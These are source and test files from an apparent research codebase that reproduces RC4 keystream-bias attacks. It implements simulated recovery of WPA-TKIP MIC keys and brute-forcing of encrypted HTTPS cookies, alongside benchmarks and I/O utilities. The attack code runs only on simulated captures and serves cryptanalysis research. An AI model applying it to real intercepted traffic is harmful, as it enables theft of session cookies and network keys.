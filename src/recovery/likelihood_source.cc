#include "src/recovery/likelihood_source.h"

#include <cassert>
#include <cstdio>

#include "src/core/likelihood.h"
#include "src/tkip/attack.h"

namespace rc4b::recovery {

namespace {

bool RowsAre256Wide(const auto& rows) {
  for (const auto& row : rows) {
    if (row.size() != 256) {
      return false;
    }
  }
  return true;
}

}  // namespace

SingleByteTables TkipTscLikelihoodSource::Tables() {
  return TkipTrailerLikelihoods(*stats_, *model_);
}

SingleByteModelSource::SingleByteModelSource(
    std::vector<std::vector<uint64_t>> counts,
    std::vector<std::vector<double>> log_model)
    : counts_(std::move(counts)), log_model_(std::move(log_model)) {
  // Load-bearing validation: Tables() pairs counts_[r] with log_model_[r]
  // and the likelihood kernel reads 256 cells of each, so a shape mismatch
  // must disable the source rather than read out of bounds in Release
  // builds. Loud, because empty tables downstream look like a legitimately
  // failed attack.
  const bool valid = counts_.size() == log_model_.size() &&
                     RowsAre256Wide(counts_) && RowsAre256Wide(log_model_);
  assert(valid);
  if (!valid) {
    std::fprintf(stderr,
                 "SingleByteModelSource: %zu count rows vs %zu model rows "
                 "(all rows must have 256 cells); source disabled\n",
                 counts_.size(), log_model_.size());
    counts_.clear();
    log_model_.clear();
  }
}

SingleByteTables SingleByteModelSource::Tables() {
  SingleByteTables tables;
  tables.reserve(counts_.size());
  for (size_t r = 0; r < counts_.size(); ++r) {
    tables.push_back(SingleByteLogLikelihood(counts_[r], log_model_[r]));
  }
  return tables;
}

DoubleByteTables CapturedCookieLikelihoodSource::Tables() {
  return CookieTransitionTables(*stats_, keystream_alignment_);
}

}  // namespace rc4b::recovery
