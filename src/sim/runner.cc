#include "src/sim/runner.h"

#include "src/common/thread_pool.h"

namespace rc4b::sim {

uint64_t TrialSeed(uint64_t seed, uint64_t trial) {
  // SplitMix64 finalizer over an odd-constant combination of seed and trial.
  // The +1 keeps trial 0 from collapsing to the bare seed.
  uint64_t z = seed + 0x9e3779b97f4a7c15ULL * (trial + 1);
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
  return z ^ (z >> 31);
}

Xoshiro256 TrialRng(uint64_t seed, uint64_t trial) {
  return Xoshiro256(TrialSeed(seed, trial));
}

void ForEachTrial(const TrialRunnerOptions& options,
                  const std::function<void(uint64_t, Xoshiro256&)>& fn) {
  ParallelChunks(options.trials, options.workers,
                 [&](unsigned, uint64_t begin, uint64_t end) {
                   for (uint64_t trial = begin; trial < end; ++trial) {
                     Xoshiro256 rng = TrialRng(options.seed, trial);
                     fn(trial, rng);
                   }
                 });
}

}  // namespace rc4b::sim
