#include "src/common/io.h"

#include <atomic>
#include <cerrno>
#include <cstring>

#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include "src/common/fault_injector.h"

namespace rc4b {

namespace {

// Writer-unique temp path. A fixed `path + ".tmp"` let two concurrent
// writers of the same destination interleave bytes in one temp file and
// rename a torn image into place; with a (pid, counter) suffix each writer
// owns its temp file outright (tests/store/concurrency_stress_test.cc races
// GridCache fills to pin this down).
std::string UniqueTmpPath(const std::string& path) {
  static std::atomic<uint64_t> counter{0};
  return path + ".tmp." + std::to_string(::getpid()) + "." +
         std::to_string(counter.fetch_add(1, std::memory_order_relaxed));
}

// Directory that holds `path`, for the post-rename directory fsync.
std::string ParentDir(const std::string& path) {
  const size_t slash = path.find_last_of('/');
  if (slash == std::string::npos) {
    return ".";
  }
  return slash == 0 ? "/" : path.substr(0, slash);
}

// fsync the directory entry so the rename itself survives a host crash.
IoStatus SyncParentDir(const std::string& path) {
  const std::string dir = ParentDir(path);
  const int fd = ::open(dir.c_str(), O_RDONLY | O_DIRECTORY);
  if (fd < 0) {
    return IoStatus::FromErrno("open dir", dir);
  }
  if (::fsync(fd) != 0) {
    const IoStatus status = IoStatus::FromErrno("fsync dir", dir);
    ::close(fd);
    return status;
  }
  ::close(fd);
  FaultInjector::NoteEvent("fsync-dir");
  return IoStatus::Ok();
}

}  // namespace

IoStatus IoStatus::FromErrno(std::string_view op, std::string_view path) {
  std::string message;
  message.append(op);
  message.push_back(' ');
  message.append(path);
  message.append(": ");
  message.append(std::strerror(errno));
  return Transient(std::move(message));
}

IoStatus WriteFileAtomic(const std::string& path, std::string_view data) {
  BinaryWriter writer(path);
  writer.WriteBytes(std::span<const uint8_t>(
      reinterpret_cast<const uint8_t*>(data.data()), data.size()));
  return writer.Commit();
}

IoStatus MakeDirs(const std::string& path) {
  if (path.empty() || path == "/" || path == ".") {
    return IoStatus::Ok();
  }
  struct stat st;
  if (::stat(path.c_str(), &st) == 0) {
    if (S_ISDIR(st.st_mode)) {
      return IoStatus::Ok();
    }
    return IoStatus::Fail("mkdir " + path + ": exists and is not a directory");
  }
  const size_t slash = path.find_last_of('/');
  if (slash != std::string::npos && slash != 0) {
    if (IoStatus parent = MakeDirs(path.substr(0, slash)); !parent.ok()) {
      return parent;
    }
  }
  if (::mkdir(path.c_str(), 0777) != 0 && errno != EEXIST) {
    return IoStatus::FromErrno("mkdir", path);
  }
  return IoStatus::Ok();
}

// ------------------------------------------------------------------ writer --

BinaryWriter::BinaryWriter(const std::string& path)
    : path_(path), tmp_path_(UniqueTmpPath(path)) {
  file_ = std::fopen(tmp_path_.c_str(), "wb");
  if (file_ == nullptr) {
    status_ = IoStatus::FromErrno("open", tmp_path_);
  }
}

BinaryWriter::~BinaryWriter() {
  if (finished_) {
    return;
  }
  if (status_.ok()) {
    Commit();  // legacy scope-based usage; errors are unobservable here
  } else {
    Abandon();
  }
}

void BinaryWriter::Write(const void* data, size_t bytes, const char* what) {
  if (!status_.ok() || finished_ || bytes == 0) {
    return;
  }
  FaultInjector::Instance().BeforeWrite(path_);
  if (std::fwrite(data, 1, bytes, file_) != bytes) {
    status_ = IoStatus::FromErrno(what, tmp_path_);
  }
}

void BinaryWriter::WriteU64(uint64_t v) { Write(&v, sizeof(v), "write u64 to"); }

void BinaryWriter::WriteDoubles(std::span<const double> values) {
  Write(values.data(), values.size_bytes(), "write doubles to");
}

void BinaryWriter::WriteU64s(std::span<const uint64_t> values) {
  Write(values.data(), values.size_bytes(), "write u64s to");
}

void BinaryWriter::WriteBytes(std::span<const uint8_t> bytes) {
  Write(bytes.data(), bytes.size_bytes(), "write bytes to");
}

IoStatus BinaryWriter::Commit() { return CommitImpl(/*durable=*/false); }

IoStatus BinaryWriter::CommitDurable() { return CommitImpl(/*durable=*/true); }

IoStatus BinaryWriter::CommitImpl(bool durable) {
  if (finished_) {
    return status_;
  }
  if (!status_.ok()) {
    Abandon();
    return status_;
  }
  if (std::fflush(file_) != 0) {
    status_ = IoStatus::FromErrno("flush", tmp_path_);
    Abandon();
    return status_;
  }
  if (durable) {
    // Flush-to-disk before the rename: the rename must only ever expose a
    // fully persisted image, otherwise a crash could leave the destination
    // pointing at data the kernel never wrote back.
    if (::fsync(::fileno(file_)) != 0) {
      status_ = IoStatus::FromErrno("fsync", tmp_path_);
      Abandon();
      return status_;
    }
    FaultInjector::NoteEvent("fsync-file");
  }
  if (std::fclose(file_) != 0) {
    status_ = IoStatus::FromErrno("close", tmp_path_);
    file_ = nullptr;
    Abandon();
    return status_;
  }
  file_ = nullptr;
  finished_ = true;
  FaultInjector::Instance().MaybeTearCommit(tmp_path_, path_);
  if (std::rename(tmp_path_.c_str(), path_.c_str()) != 0) {
    status_ = IoStatus::FromErrno("rename " + tmp_path_ + " to", path_);
    std::remove(tmp_path_.c_str());
    return status_;
  }
  if (durable) {
    if (IoStatus synced = SyncParentDir(path_); !synced.ok()) {
      status_ = std::move(synced);
      return status_;
    }
  }
  FaultInjector::Instance().AfterCommit(path_);
  return status_;
}

void BinaryWriter::Abandon() {
  if (file_ != nullptr) {
    std::fclose(file_);
    file_ = nullptr;
  }
  std::remove(tmp_path_.c_str());
  finished_ = true;
}

// ------------------------------------------------------------------ reader --

BinaryReader::BinaryReader(const std::string& path) : path_(path) {
  file_ = std::fopen(path.c_str(), "rb");
  if (file_ == nullptr) {
    status_ = IoStatus::FromErrno("open", path_);
  }
}

BinaryReader::~BinaryReader() {
  if (file_ != nullptr) {
    std::fclose(file_);
  }
}

bool BinaryReader::Read(void* out, size_t bytes, const char* what) {
  if (!status_.ok()) {
    return false;
  }
  if (std::fread(out, 1, bytes, file_) != bytes) {
    status_ = std::ferror(file_) != 0
                  ? IoStatus::FromErrno(what, path_)
                  : IoStatus::Fail(std::string(what) + " " + path_ +
                                   ": unexpected end of file");
    return false;
  }
  return true;
}

uint64_t BinaryReader::ReadU64() {
  uint64_t v = 0;
  return Read(&v, sizeof(v), "read u64 from") ? v : 0;
}

bool BinaryReader::ReadDoubles(std::span<double> out) {
  return Read(out.data(), out.size_bytes(), "read doubles from");
}

bool BinaryReader::ReadU64s(std::span<uint64_t> out) {
  return Read(out.data(), out.size_bytes(), "read u64s from");
}

// -------------------------------------------------------------------- mmap --

MmapFile::~MmapFile() { Reset(); }

MmapFile::MmapFile(MmapFile&& other) noexcept
    : data_(other.data_), size_(other.size_) {
  other.data_ = nullptr;
  other.size_ = 0;
}

MmapFile& MmapFile::operator=(MmapFile&& other) noexcept {
  if (this != &other) {
    Reset();
    data_ = other.data_;
    size_ = other.size_;
    other.data_ = nullptr;
    other.size_ = 0;
  }
  return *this;
}

void MmapFile::Reset() {
  if (data_ != nullptr) {
    ::munmap(data_, size_);
    data_ = nullptr;
  }
  size_ = 0;
}

IoStatus MmapFile::Open(const std::string& path, MmapFile* out) {
  out->Reset();
  const int fd = ::open(path.c_str(), O_RDONLY);
  if (fd < 0) {
    return IoStatus::FromErrno("open", path);
  }
  struct stat st;
  if (::fstat(fd, &st) != 0) {
    const IoStatus status = IoStatus::FromErrno("stat", path);
    ::close(fd);
    return status;
  }
  const size_t size = static_cast<size_t>(st.st_size);
  if (size == 0) {  // mmap rejects zero-length maps; an empty file is valid
    ::close(fd);
    return IoStatus::Ok();
  }
  void* data = ::mmap(nullptr, size, PROT_READ, MAP_PRIVATE, fd, 0);
  ::close(fd);
  if (data == MAP_FAILED) {
    return IoStatus::FromErrno("mmap", path);
  }
  out->data_ = data;
  out->size_ = size;
  return IoStatus::Ok();
}

}  // namespace rc4b
