#include "src/rc4/keygen.h"

#include "src/common/rng.h"

namespace rc4b {

namespace {

std::array<uint8_t, Aes128::kKeySize> DeriveWorkerAesKey(uint64_t worker_seed) {
  Xoshiro256 rng(worker_seed ^ 0xa3c59ac4b1e2f07dULL);
  std::array<uint8_t, Aes128::kKeySize> key;
  rng.Fill(key);
  return key;
}

}  // namespace

Rc4KeyGenerator::Rc4KeyGenerator(uint64_t worker_seed)
    : ctr_(DeriveWorkerAesKey(worker_seed)) {}

std::array<uint8_t, Rc4KeyGenerator::kRc4KeySize> Rc4KeyGenerator::NextKey() {
  std::array<uint8_t, kRc4KeySize> key;
  ctr_.Generate(key);
  return key;
}

void Rc4KeyGenerator::Seek(uint64_t key_index) { ctr_.Seek(key_index); }

}  // namespace rc4b
