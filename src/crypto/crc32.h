// CRC-32 (IEEE 802.3 polynomial, reflected) — the TKIP Integrity Check Value.
//
// The attack in Sect. 5.3 prunes plaintext candidates by recomputing this CRC
// over the decrypted packet and comparing it to the decrypted ICV field.
#ifndef SRC_CRYPTO_CRC32_H_
#define SRC_CRYPTO_CRC32_H_

#include <cstdint>
#include <span>

namespace rc4b {

// Standard CRC-32: init 0xffffffff, reflected polynomial 0xedb88320, final
// XOR 0xffffffff. Crc32("123456789") == 0xcbf43926.
uint32_t Crc32(std::span<const uint8_t> data);

// Streaming form: pass the previous return value as `state`; start with
// Crc32Init() and finish with Crc32Final().
uint32_t Crc32Init();
uint32_t Crc32Update(uint32_t state, std::span<const uint8_t> data);
uint32_t Crc32Final(uint32_t state);

}  // namespace rc4b

#endif  // SRC_CRYPTO_CRC32_H_
