// Table 1 — generalized Fluhrer–McGrew digraph biases in the long-term
// keystream. Regenerates the long-term digraph dataset and compares the
// measured relative bias of each digraph class, pooled over all PRGA counters
// where its condition holds, against the analytic Table 1 value.
#include <cstdio>
#include <map>
#include <string>
#include <vector>

#include "bench/harness.h"
#include "src/biases/dataset.h"
#include "src/biases/fluhrer_mcgrew.h"
#include "src/common/flags.h"

namespace rc4b {
namespace {

int Run(int argc, char** argv) {
  const ScaleFlagSpec scale{.count_flag = "keys",
                            .count_default = "512",
                            .count_help = "RC4 keys (one long keystream each)",
                            .seed_default = "1",
                            .seed_help = "dataset seed"};
  FlagSet flags("Table 1: long-term Fluhrer-McGrew digraph probabilities");
  DefineScaleFlags(flags, scale)
      .Define("bytes-per-key", "0x4000000", "keystream bytes per key (2^26)")
      .Define("grid-cache", "",
              "warm-start: load-or-store the dataset grid in this directory "
              "(docs/store.md)");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  const auto [keys, workers, seed, interleave, kernel] = GetScaleFlags(flags, scale);
  LongTermOptions options;
  options.keys = keys;
  options.bytes_per_key = flags.GetUint("bytes-per-key");
  options.workers = workers;
  options.seed = seed;
  options.interleave = interleave;
  options.kernel = kernel;
  options.cache_dir = flags.GetString("grid-cache");

  const double total_samples =
      static_cast<double>(options.keys) * static_cast<double>(options.bytes_per_key);
  bench::PrintHeader(
      "bench_table1_fm_longterm",
      "Table 1 (Fluhrer-McGrew digraph probabilities, long-term regime)",
      "samples: " + std::to_string(static_cast<long long>(total_samples / 1e6)) +
          "M digraphs (paper: ~2^52); relative biases are 2^-8-scale, so "
          "z-scores grow with --keys/--bytes-per-key");

  const auto grid = GenerateLongTermDigraphDataset(options);

  // Pool each digraph class over all counters i where Table 1 applies.
  struct Pool {
    double expected_relative = 0.0;
    uint64_t count = 0;
    uint64_t samples_rows = 0;  // number of (i) rows pooled
  };
  std::map<std::string, Pool> pools;
  const uint64_t long_r = 1 << 20;
  for (int i = 0; i < 256; ++i) {
    for (const FmDigraph& d : FmDigraphsAt(static_cast<uint8_t>(i), long_r)) {
      Pool& pool = pools[d.name];
      pool.expected_relative = d.relative_bias;
      // Row index row corresponds to counter i = row + 1 (see dataset.h);
      // invert: row = i - 1 mod 256.
      const size_t row = static_cast<size_t>((i + 255) % 256);
      pool.count += grid.Count(row, d.v1, d.v2);
      ++pool.samples_rows;
    }
  }

  std::printf("%-22s %9s %14s %14s %8s %s\n", "digraph class", "rows", "measured q",
              "Table 1 q", "z", "sig");
  const double per_row_samples = static_cast<double>(grid.keys());
  for (const auto& [name, pool] : pools) {
    const double n = per_row_samples * static_cast<double>(pool.samples_rows);
    const double expected_count = n / 65536.0;
    const double measured_q =
        static_cast<double>(pool.count) / expected_count - 1.0;
    const double sigma = 1.0 / std::sqrt(expected_count);
    const double z = (measured_q - pool.expected_relative) / sigma;
    const double detect_z = measured_q / sigma;
    std::printf("%-22s %9llu %+14.6f %+14.6f %8.2f %s\n", name.c_str(),
                static_cast<unsigned long long>(pool.samples_rows), measured_q,
                pool.expected_relative, detect_z, bench::Stars(z));
  }
  std::printf("\n(z = measured relative bias in sigmas; sig stars compare "
              "measured vs Table 1 prediction)\n");
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
