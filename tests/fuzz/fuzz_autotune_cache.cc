// Fuzz target: the RC4B_AUTOTUNE_CACHE parser (src/rc4/autotune.cc).
// The cache file steers kernel dispatch for every engine run on the host, so
// LoadAutotuneChoice must treat it as untrusted input: arbitrary bytes yield
// either nullopt or a fully-populated choice — never a crash, a throw, or a
// half-parsed choice with default-initialized fields steering dispatch.
#include <cstdint>
#include <cstdlib>
#include <optional>

#include "src/rc4/autotune.h"
#include "tests/fuzz/fuzz_util.h"

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
  const std::string path = rc4b::fuzz::ScratchPath("input.autotune");
  if (!rc4b::fuzz::WriteInput(path, data, size)) {
    return 0;
  }

  const std::optional<rc4b::AutotuneChoice> choice =
      rc4b::LoadAutotuneChoice(path);
  if (choice.has_value()) {
    // Load promises every field present and sane on success.
    if (choice->kernel.empty() || choice->width == 0 ||
        choice->batch_keys == 0) {
      std::abort();
    }
    // An accepted choice must survive the save/load round trip unchanged.
    const std::string back = rc4b::fuzz::ScratchPath("roundtrip.autotune");
    if (!rc4b::SaveAutotuneChoice(back, *choice).ok()) {
      std::abort();
    }
    const std::optional<rc4b::AutotuneChoice> again =
        rc4b::LoadAutotuneChoice(back);
    if (!again.has_value() || !(*again == *choice)) {
      std::abort();
    }
  }
  return 0;
}
