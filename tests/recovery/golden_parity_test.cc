// Golden-parity pins for the recovery refactor: the TKIP and cookie attacks
// rewired onto the RecoveryEngine must produce bit-identical candidate
// orderings and recovery outcomes to the pre-refactor implementations. The
// reference functions below are verbatim copies of the hand-rolled loops
// that src/tkip/attack.cc and src/tls/cookie_attack.cc contained before the
// refactor.
#include <gtest/gtest.h>

#include <cstring>

#include "src/core/candidates.h"
#include "src/crypto/crc32.h"
#include "src/recovery/likelihood_source.h"
#include "src/sim/cookie_sim.h"
#include "src/sim/runner.h"
#include "src/sim/tkip_sim.h"
#include "src/tkip/attack.h"
#include "src/tls/cookie_attack.h"

namespace rc4b {
namespace {

// --- Pre-refactor reference implementations ------------------------------

TkipAttackResult ReferenceRecoverTkipTrailer(
    std::span<const uint8_t> known_msdu, const SingleByteTables& likelihoods,
    uint64_t max_candidates, std::span<const uint8_t> true_trailer,
    const TkipPeer& peer) {
  TkipAttackResult result;
  if (likelihoods.size() != kTkipTrailerSize) {
    return result;
  }
  uint32_t msdu_state = Crc32Init();
  msdu_state = Crc32Update(msdu_state, known_msdu);

  LazyCandidateEnumerator enumerator(likelihoods);
  for (uint64_t n = 0; n < max_candidates && !enumerator.Exhausted(); ++n) {
    const Candidate candidate = enumerator.Next();
    result.candidates_tried = n + 1;
    const std::span<const uint8_t> trailer(candidate.plaintext);
    const uint32_t crc =
        Crc32Final(Crc32Update(msdu_state, trailer.subspan(0, 8)));
    if (crc != LoadLe32(trailer.data() + 8)) {
      continue;
    }
    result.found = true;
    result.trailer = candidate.plaintext;
    result.correct = !true_trailer.empty() &&
                     true_trailer.size() == trailer.size() &&
                     std::memcmp(true_trailer.data(), trailer.data(),
                                 trailer.size()) == 0;
    const auto header = MichaelHeader(peer.da, peer.sa, peer.priority);
    Bytes authenticated(header.begin(), header.end());
    authenticated.insert(authenticated.end(), known_msdu.begin(),
                         known_msdu.end());
    result.mic_key = MichaelRecoverKey(authenticated, trailer.subspan(0, 8));
    return result;
  }
  return result;
}

CookieBruteForceResult ReferenceBruteForceCookie(
    const DoubleByteTables& transitions, uint8_t m1, uint8_t m_last,
    std::span<const uint8_t> alphabet, size_t max_candidates,
    const std::function<bool(const Bytes&)>& try_cookie) {
  CookieBruteForceResult result;
  const auto candidates = GenerateCandidatesDouble(transitions, m1, m_last,
                                                   max_candidates, alphabet);
  for (const Candidate& candidate : candidates) {
    ++result.attempts;
    if (try_cookie(candidate.plaintext)) {
      result.success = true;
      result.cookie = candidate.plaintext;
      return result;
    }
  }
  return result;
}

// --- Shared fixtures ------------------------------------------------------

// Strongly biased per-TSC1 oracle model over the injected packet's trailer
// positions (same construction as tests/sim/tkip_sim_test.cc).
TkipTscModel StrongModel(double boost) {
  const Bytes msdu = sim::InjectedPacket();
  const size_t first = msdu.size() + 1;
  const size_t last = msdu.size() + kTkipTrailerSize;
  TkipTscModel model(first, last);
  for (int tsc1 = 0; tsc1 < 256; ++tsc1) {
    for (size_t pos = first; pos <= last; ++pos) {
      std::vector<double> p(256, (1.0 - (1.0 / 256 + boost)) / 255.0);
      p[(tsc1 * 31 + static_cast<int>(pos)) & 0xff] = 1.0 / 256 + boost;
      model.SetRow(static_cast<uint8_t>(tsc1), pos, p);
    }
  }
  return model;
}

struct TkipCase {
  Bytes msdu;
  Bytes trailer;
  TkipPeer peer;
  SingleByteTables tables;
};

void CaptureTkipCase(const TkipTscModel& model, uint64_t seed, uint64_t frames,
                     TkipCase* out) {
  Xoshiro256 rng = sim::TrialRng(seed, 0);
  out->peer = sim::RandomPeer(rng);
  out->msdu = sim::InjectedPacket();
  out->trailer = TkipTrailer(out->peer, out->msdu);
  TkipCaptureStats stats(out->msdu.size() + 1,
                         out->msdu.size() + kTkipTrailerSize);
  sim::TrailerFrameSource source(model, /*oracle=*/true, out->peer, out->msdu,
                                 out->trailer, /*initial_tsc=*/1, rng());
  for (uint64_t i = 0; i < frames; ++i) {
    ASSERT_TRUE(stats.AddFrame(source.NextFrame()));
  }
  recovery::TkipTscLikelihoodSource likelihoods(stats, model);
  out->tables = likelihoods.Tables();
}

void ExpectEqualResults(const TkipAttackResult& a, const TkipAttackResult& b) {
  EXPECT_EQ(a.found, b.found);
  EXPECT_EQ(a.correct, b.correct);
  EXPECT_EQ(a.candidates_tried, b.candidates_tried);
  EXPECT_EQ(a.trailer, b.trailer);
  EXPECT_EQ(a.mic_key, b.mic_key);
}

TEST(GoldenParityTest, TkipRecoveryMatchesPreRefactorOnStrongSignal) {
  const TkipTscModel model = StrongModel(0.2);
  TkipCase c;
  CaptureTkipCase(model, 101, 4096, &c);
  for (uint64_t budget : {uint64_t{1}, uint64_t{2}, uint64_t{1} << 16}) {
    const auto reference = ReferenceRecoverTkipTrailer(c.msdu, c.tables, budget,
                                                       c.trailer, c.peer);
    const auto refactored =
        RecoverTkipTrailer(c.msdu, c.tables, budget, c.trailer, c.peer);
    ExpectEqualResults(refactored, reference);
  }
  // At a generous budget the strong signal must actually recover the truth —
  // otherwise this parity test would only compare failures.
  const auto result =
      RecoverTkipTrailer(c.msdu, c.tables, uint64_t{1} << 16, c.trailer, c.peer);
  EXPECT_TRUE(result.found);
  EXPECT_TRUE(result.correct);
  EXPECT_EQ(result.mic_key, c.peer.mic_key);
}

TEST(GoldenParityTest, TkipRecoveryMatchesPreRefactorOnFailure) {
  // No-signal tables: both implementations must walk the same 512 candidates
  // and report the same failure shape.
  Xoshiro256 rng(7);
  TkipCase c;
  c.peer = sim::RandomPeer(rng);
  c.msdu = sim::InjectedPacket();
  c.trailer = TkipTrailer(c.peer, c.msdu);
  c.tables.assign(kTkipTrailerSize, std::vector<double>(256));
  for (auto& row : c.tables) {
    for (double& cell : row) {
      cell = -rng.UnitDouble();
    }
  }
  const auto reference =
      ReferenceRecoverTkipTrailer(c.msdu, c.tables, 512, c.trailer, c.peer);
  const auto refactored =
      RecoverTkipTrailer(c.msdu, c.tables, 512, c.trailer, c.peer);
  ExpectEqualResults(refactored, reference);
  EXPECT_FALSE(refactored.found);
  EXPECT_EQ(refactored.candidates_tried, 512u);
}

TEST(GoldenParityTest, CookieBruteForceMatchesPreRefactor) {
  sim::CookieSimOptions options;
  options.cookie_length = 4;
  options.max_gap = 16;
  const sim::CookieSimContext context(options);
  const auto& alphabet = context.alphabet();

  Xoshiro256 rng = sim::TrialRng(55, 1);
  Bytes truth(options.cookie_length);
  for (auto& b : truth) {
    b = alphabet[rng.Below(alphabet.size())];
  }
  const auto transitions = sim::SampleCookieTransitions(
      context, truth, /*ciphertexts=*/uint64_t{1} << 34, rng);

  const auto oracle = [&](const Bytes& candidate) { return candidate == truth; };
  for (size_t budget : {size_t{1}, size_t{64}, size_t{1} << 14}) {
    const auto reference = ReferenceBruteForceCookie(
        transitions, options.m1, options.m_last, alphabet, budget, oracle);
    const auto refactored = BruteForceCookie(transitions, options.m1,
                                             options.m_last, alphabet, budget,
                                             oracle);
    EXPECT_EQ(refactored.success, reference.success) << "budget " << budget;
    EXPECT_EQ(refactored.attempts, reference.attempts) << "budget " << budget;
    EXPECT_EQ(refactored.cookie, reference.cookie) << "budget " << budget;
  }
  // At 2^34 ciphertexts the combined signal recovers the 4-char cookie.
  const auto result = BruteForceCookie(transitions, options.m1, options.m_last,
                                       alphabet, 1 << 14, oracle);
  EXPECT_TRUE(result.success);
  EXPECT_EQ(result.cookie, truth);

  // Candidate-ordering pin: the attempts consumed by a never-matching oracle
  // must equal the materialized Algorithm 2 list walked in order.
  std::vector<Bytes> visited;
  BruteForceCookie(transitions, options.m1, options.m_last, alphabet, 64,
                   [&](const Bytes& candidate) {
                     visited.push_back(candidate);
                     return false;
                   });
  const auto expected = GenerateCandidatesDouble(transitions, options.m1,
                                                 options.m_last, 64, alphabet);
  ASSERT_EQ(visited.size(), expected.size());
  for (size_t i = 0; i < visited.size(); ++i) {
    EXPECT_EQ(visited[i], expected[i].plaintext) << "candidate " << i;
  }
}

}  // namespace
}  // namespace rc4b
