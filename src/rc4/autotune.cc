#include "src/rc4/autotune.h"

#include <unistd.h>

#include <array>
#include <atomic>
#include <charconv>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <map>
#include <sstream>

#include "src/common/rng.h"
#include "src/engine/keystream_engine.h"
#include "src/rc4/rc4.h"

namespace rc4b {

namespace {

bool ParseU64(std::string_view text, uint64_t* out) {
  const char* end = text.data() + text.size();
  const auto [ptr, ec] = std::from_chars(text.data(), end, *out);
  return ec == std::errc() && ptr == end;
}

constexpr size_t kKeySize = 16;

std::vector<uint8_t> RandomKeys(size_t count, uint64_t seed) {
  Xoshiro256 rng(seed);
  std::vector<uint8_t> keys(count * kKeySize);
  rng.Fill(keys);
  return keys;
}

bool LaneMatchesScalar(std::span<const uint8_t> key, uint64_t drop,
                       std::span<const uint8_t> actual) {
  Rc4 rc4(key);
  rc4.Skip(drop);
  for (const uint8_t byte : actual) {
    if (byte != rc4.Next()) {
      return false;
    }
  }
  return true;
}

// Timing sink: folds one byte per row so the generated batches are consumed
// through the same virtual-call boundary real accumulators use (and can
// never be elided), while adding near-zero cost of its own.
class ChecksumAccumulator final : public BiasAccumulator {
 public:
  explicit ChecksumAccumulator(size_t length) : length_(length) {}

  size_t KeystreamLength() const override { return length_; }

  std::unique_ptr<ShardSink> MakeShard() override {
    class Sink final : public ShardSink {
     public:
      explicit Sink(uint8_t* total) : total_(total) {}
      void Consume(const KeystreamBatch& batch) override {
        uint8_t sum = 0;
        for (size_t r = 0; r < batch.rows; ++r) {
          sum = static_cast<uint8_t>(sum ^ batch.Row(r).front());
        }
        *total_ = static_cast<uint8_t>(*total_ ^ sum);
      }
      uint8_t* total_;
    };
    return std::make_unique<Sink>(&checksum_);
  }

  void MergeShard(ShardSink& /*shard*/, uint64_t /*keys*/) override {}

  uint8_t checksum() const { return checksum_; }

 private:
  size_t length_;
  uint8_t checksum_ = 0;
};

double TimeCandidate(const AutotuneCandidate& candidate,
                     const AutotuneOptions& options) {
  EngineOptions engine;
  engine.keys = options.keys_per_probe;
  engine.workers = 1;
  engine.seed = options.seed;
  engine.batch_keys = candidate.batch_keys;
  engine.interleave = candidate.width;
  engine.kernel = candidate.kernel;
  double best_s = 0.0;
  for (int r = 0; r < options.repeats; ++r) {
    ChecksumAccumulator accumulator(options.keystream_length);
    const auto start = std::chrono::steady_clock::now();
    RunKeystreamEngine(engine, accumulator);
    const double s =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
            .count();
    if (r == 0 || s < best_s) {
      best_s = s;
    }
  }
  return best_s > 0.0 ? static_cast<double>(options.keys_per_probe) / best_s : 0.0;
}

}  // namespace

std::vector<AutotuneCandidate> EnumerateAutotuneCandidates(
    std::span<const KernelDesc> kernels, std::span<const size_t> batch_sizes) {
  std::vector<AutotuneCandidate> candidates;
  for (const KernelDesc& kernel : kernels) {
    if (!kernel.Available()) {
      continue;
    }
    for (const size_t width : kernel.widths) {
      for (const size_t batch : batch_sizes) {
        candidates.push_back(
            AutotuneCandidate{std::string(kernel.name), width, batch});
      }
    }
  }
  return candidates;
}

bool KernelMatchesScalar(Rc4LaneKernel& kernel, uint64_t seed) {
  const size_t lanes = kernel.Width();

  const auto sweep = [&](uint64_t drop, size_t length, uint64_t case_seed) {
    const auto keys = RandomKeys(lanes, case_seed);
    kernel.Init(keys, kKeySize);
    if (drop != 0) {
      kernel.Skip(drop);
    }
    std::vector<uint8_t> batch(lanes * length);
    kernel.Keystream(batch.data(), length, length);
    for (size_t m = 0; m < lanes; ++m) {
      const auto key = std::span<const uint8_t>(keys).subspan(m * kKeySize, kKeySize);
      const auto lane = std::span<const uint8_t>(batch).subspan(m * length, length);
      if (!LaneMatchesScalar(key, drop, lane)) {
        return false;
      }
    }
    return true;
  };

  for (const size_t length : {size_t{1}, size_t{16}, size_t{256}, size_t{513}}) {
    if (!sweep(0, length, seed ^ length)) {
      return false;
    }
  }
  for (const uint64_t drop : {uint64_t{1}, uint64_t{256}, uint64_t{1024}}) {
    if (!sweep(drop, 64, seed ^ (drop << 16))) {
      return false;
    }
  }

  // Split generation: state must carry across Keystream() calls exactly as
  // in the long-term engine's window loop (stride stays the full row).
  const auto keys = RandomKeys(lanes, seed ^ 0x5157);
  kernel.Init(keys, kKeySize);
  constexpr size_t kTotal = 513;
  std::vector<uint8_t> pieces(lanes * kTotal);
  size_t offset = 0;
  for (const size_t piece : {size_t{1}, size_t{255}, size_t{257}}) {
    kernel.Keystream(pieces.data() + offset, piece, kTotal);
    offset += piece;
  }
  for (size_t m = 0; m < lanes; ++m) {
    const auto key = std::span<const uint8_t>(keys).subspan(m * kKeySize, kKeySize);
    const auto lane = std::span<const uint8_t>(pieces).subspan(m * kTotal, kTotal);
    if (!LaneMatchesScalar(key, 0, lane)) {
      return false;
    }
  }
  return true;
}

std::vector<AutotuneResult> RunAutotuneSweep(const AutotuneOptions& options,
                                             std::span<const KernelDesc> kernels) {
  const auto candidates = EnumerateAutotuneCandidates(kernels, options.batch_sizes);
  // One verification per (kernel, width): the verdict is independent of
  // batch_keys, and verifying is not free at width 32.
  std::map<std::pair<std::string, size_t>, bool> verified;
  std::vector<AutotuneResult> results;
  results.reserve(candidates.size());
  for (const AutotuneCandidate& candidate : candidates) {
    AutotuneResult result;
